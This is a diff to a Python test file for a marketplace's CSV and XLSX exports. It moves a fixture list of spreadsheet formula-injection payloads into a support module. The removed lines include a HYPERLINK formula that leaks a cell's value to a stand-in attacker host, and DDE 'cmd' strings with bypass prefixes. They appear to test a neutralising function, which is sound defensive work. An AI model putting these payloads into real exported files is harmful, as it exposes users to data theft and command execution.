@@ -11,17 +11,8 @@ import openpyxl
 import pytest
 
 from marketplace.exports import EXPORTS, csv_writer, neutralise, xlsx_append
+from tests.support.formulas import PAYLOADS
 
-#: What suppliers may write, as the audit found it: each starts with a prefix a spreadsheet evaluates.
-PAYLOADS = [
-    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
-    "=cmd|' /C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
 ROOT = Path(__file__).resolve().parents[2]
 #: Modules that write CSV with the helpers but are no export of stored data, and why.
 NOT_EXPORTS = {
